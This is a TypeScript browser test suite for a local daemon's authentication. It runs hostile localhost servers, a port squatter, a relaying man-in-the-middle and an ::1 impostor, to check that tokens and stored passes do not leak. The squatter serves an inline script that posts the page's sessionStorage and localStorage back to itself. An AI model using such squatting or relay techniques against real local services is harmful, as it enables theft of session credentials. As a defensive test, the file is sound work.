/**
 * Design, section 8, in a real browser, with hostile servers on this machine: on another port, in the daemon's
 * place after it has ended, and between a page and the daemon.
 */
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { pathToFileURL } from 'node:url'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { WebSocket, WebSocketServer } from 'ws'
import { PassRefused } from '../../src/contract/sealed-socket.ts'
import { entryCode } from '../../src/host/app/entry-code.ts'
import { wayIn } from '../../src/host/app/way-in.ts'
import { Browser as Client, passOf } from '../daemon/daemon.ts'
import { until } from '../support/until.ts'
import { App, inStep } from './support/app.ts'

let app: App
let page: Page
let context: BrowserContext

beforeAll(async () => {
  app = await App.start()
  app.world.a.write('data/before.md', 'before\n')
  app.expected.push(/WebSocket connection to .* failed/, /ERR_CONNECTION_REFUSED/)
  page = await app.open()
  context = page.context()
  await app.add(app.world.a.folder)
  await inStep(page)
})
afterAll(() => app.close())

const address = () => `http://127.0.0.1:${app.daemon.port}/`
const isRefused = (tab: Page) => tab.getByRole('heading', { name: 'This page needs a new address' }).waitFor()

async function tab(url: string): Promise<Page> {
  const opened = await context.newPage()
  await opened.goto(url)
  return opened
}

test('a reload, a second tab and a bookmark do as a person expects', async () => {
  await page.reload()
  await inStep(page)
  expect(page.url(), 'no token stays in the address').not.toContain('token')

  const used = app.daemon.url
  const second = await tab(used)
  await inStep(second)
  await second.reload()
  await inStep(second)
  const third = await tab(used)
  await isRefused(third)
  const bookmark = await tab(address())
  await isRefused(bookmark)
  await bookmark.getByText('lockstep serve').waitFor()
  // What the command prints, or opens, for it.
  await bookmark.goto(app.daemon.url)
  await inStep(bookmark)
  await inStep(page)
  for (const each of [second, third, bookmark]) await each.close()
})

test('the page that a browser is started with leads on, and leaves no token anywhere', async () => {
  const { url } = app.daemon
  const way = await wayIn({ env: { PATH: '/nonexistent' }, home: app.world.home, url })
  if (way?.kind !== 'page') throw new Error('there is no page')
  const started = await tab(pathToFileURL(way.path).href)
  await inStep(started)
  expect(started.url()).not.toContain('token')
  expect(existsSync(way.path)).toBe(false)
  const { key } = passOf(url)
  const stored = await started.evaluate(() =>
    JSON.stringify([Object.entries(sessionStorage), document.cookie]),
  )
  expect(stored).not.toContain(key)
  await started.goBack()
  await started.goForward()
  expect(started.url()).not.toContain('token')
  await started.close()
})

test('a code in the address lets one tab in', async () => {
  const { id, key } = entryCode(passOf(app.daemon.url).key, Date.now())
  const url = `${address()}#${id.replace('.', '=')}.${key}`
  const first = await tab(url)
  await inStep(first)
  const second = await tab(url)
  await isRefused(second)
  for (const each of [first, second]) await each.close()
})

test('a server on another port gets no cookie, and nothing by what its page sends to the daemon', async () => {
  const heard: IncomingMessage[] = []
  const hostile = createServer((request, response) => {
    heard.push(request)
    response.end('<!doctype html><title>.</title><img src="/image.png"><p>Hostile</p>')
  })
  const port = await listen(hostile, 0)
  const visited = await tab(`http://127.0.0.1:${port}/`)
  const link = `http://127.0.0.1:${port}/linked`
  await visited.goto(link)
  await until(() => heard.some(({ url }) => url === '/image.png'), 'what the page loads')
  expect(heard.filter(({ headers }) => headers.cookie !== undefined)).toEqual([])
  expect(await context.cookies()).toEqual([])

  const opened = await visited.evaluate(
    to =>
      new Promise(done => {
        const socket = new globalThis.WebSocket(to)
        socket.addEventListener('message', () => done('spoken to'))
        socket.addEventListener('close', () => done('refused'))
      }),
    `ws://127.0.0.1:${app.daemon.port}/rpc`,
  )
  expect(opened).toBe('refused')
  const stored = await visited.evaluate(() => sessionStorage.length + localStorage.length)
  expect(stored).toBe(0)
  await visited.close()
  hostile.close()
})

test('a server on another port that shows our page cannot pass on its proof', async () => {
  const { port } = app.daemon
  const server = createServer((request, response) => {
    void fetch(`http://127.0.0.1:${port}${request.url ?? '/'}`).then(async answer => {
      response.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? '' })
      response.end(Buffer.from(await answer.arrayBuffer()))
    })
  })
  const passed: string[] = []
  const sockets = new WebSocketServer({ server })
  sockets.on('connection', client => {
    const daemon = new WebSocket(`ws://127.0.0.1:${port}/rpc`, {
      headers: { Origin: `http://127.0.0.1:${port}` },
    })
    daemon.on('message', data => client.send(text(data)))
    client.on('message', data => {
      passed.push(text(data))
      daemon.send(text(data))
    })
    client.on('close', () => daemon.terminate())
  })
  const between = await listen(server, 0)
  const { hash } = new URL(app.daemon.url)
  const fooled = await tab(`http://127.0.0.1:${between}/${hash}`)
  await isRefused(fooled)
  expect(passed).toHaveLength(1)
  expect(passed[0]).not.toContain(hash.replace('#token=', ''))
  await fooled.close()
  sockets.close()
  server.closeAllConnections()
  server.close()
  // It was not used up, and is good at the right address.
  const right = await tab(`${address()}${hash}`)
  await inStep(right)
  await right.close()
})

test('whoever has the port of ::1, which is localhost as well, gets nothing of a page that is opened by that name', async context => {
  const { port } = app.daemon
  const byName = await tab(app.daemon.url.replace('127.0.0.1', 'localhost'))
  await inStep(byName)
  expect(byName.url()).toContain(`//127.0.0.1:${port}/`)
  await byName.close()

  const squatter = await Squatter.on(port, '::1').catch(() => null)
  if (squatter === null) return context.skip('this machine has no ::1')
  const fooled = await tab(`http://localhost:${port}/`)
  // Whichever of its two addresses this browser asks first.
  const isAnswered = () => squatter.stolen.length > 0 || fooled.url().includes('//127.0.0.1:')
  await until(isAnswered, 'what lies in the storage of the page')
  expect(squatter.stolen.filter(stored => stored !== '{}')).toEqual([])
  await fooled.close()
  await squatter.close()
})

test('whoever takes the port after the daemon comes in nowhere at its next run; the open page comes back', async () => {
  const victim = await tab(app.daemon.url)
  await inStep(victim)
  const url = app.daemon.url
  await app.daemon.stop()
  const squatter = await Squatter.on(app.daemon.port)
  // The page that is open looks for its daemon; one that is loaded anew runs the squatter's script.
  await until(() => squatter.heard.length > 0, 'the page to look for its daemon')
  await page.getByText('Lockstep does not answer.').waitFor()
  await victim.reload()
  await until(() => squatter.stolen.length > 0, 'what lies in the storage of the page')
  expect(squatter.cookies).toEqual([])
  await squatter.close()

  await app.daemon.start()
  const [stolen = ''] = squatter.stolen
  const stored = JSON.parse(stolen) as Record<string, string>
  expect(Object.keys(stored)).toEqual(['lockstep.pass'])
  const pass = JSON.parse(stored['lockstep.pass']!) as { id: string; key: string }
  const token = { id: 'token', key: new URL(url).hash.replace('#token=', '') }
  await expect(Client.open(app.daemon.port, [pass, token])).rejects.toThrow(PassRefused)
  for (const offer of squatter.heard) expect(await answerTo(offer)).toBe('{"refused":true}')

  await inStep(page)
  await page.getByText('Lockstep does not answer.').waitFor({ state: 'detached' })
  await inStep(page)
  await page.reload()
  await inStep(page)
  await victim.goto(address())
  await isRefused(victim)
  await victim.close()
})

class Squatter {
  readonly heard: string[] = []
  readonly stolen: string[] = []
  readonly cookies: string[] = []
  readonly #server: Server
  readonly #sockets: WebSocketServer

  private constructor() {
    this.#server = createServer((request, response) => {
      if (request.headers.cookie !== undefined) this.cookies.push(request.headers.cookie)
      if (request.method === 'POST') {
        let body = ''
        request.setEncoding('utf8').on('data', (some: string) => (body += some))
        request.on('end', () => this.stolen.push(body))
      }
      response.setHeader('content-type', 'text/html')
      response.setHeader('cache-control', 'no-store')
      // As our page has it: with another one the browser would give it an empty storage.
      response.setHeader('cross-origin-opener-policy', 'same-origin')
      response.end(
        '<!doctype html><script>fetch("/", { method: "POST", body: JSON.stringify({ ...sessionStorage, ...localStorage }) })</script>',
      )
    })
    this.#sockets = new WebSocketServer({ server: this.#server })
    this.#sockets.on('connection', socket => {
      socket.send(JSON.stringify({ nonce: '12'.repeat(32) }))
      socket.on('message', data => {
        this.heard.push(text(data))
        socket.send(JSON.stringify({ proof: '34'.repeat(32) }))
      })
    })
  }

  static async on(port: number, address = '127.0.0.1'): Promise<Squatter> {
    const squatter = new Squatter()
    await listen(squatter.#server, port, address)
    return squatter
  }

  async close(): Promise<void> {
    for (const client of this.#sockets.clients) client.terminate()
    this.#sockets.close()
    this.#server.closeAllConnections()
    await new Promise<void>(done => this.#server.close(() => done()))
  }
}

/** What the daemon says to a message that a page has once sent. */
async function answerTo(offer: string): Promise<string> {
  const { port } = app.daemon
  const socket = new WebSocket(`ws://127.0.0.1:${port}/rpc`, {
    headers: { Origin: `http://127.0.0.1:${port}` },
  })
  await once(socket, 'message')
  socket.send(offer)
  const [answer] = (await once(socket, 'message')) as [Buffer]
  socket.terminate()
  return answer.toString()
}

async function listen(server: Server, port: number, address = '127.0.0.1'): Promise<number> {
  server.listen(port, address)
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

function text(data: WebSocket.RawData): string {
  return (data as Buffer).toString()
}
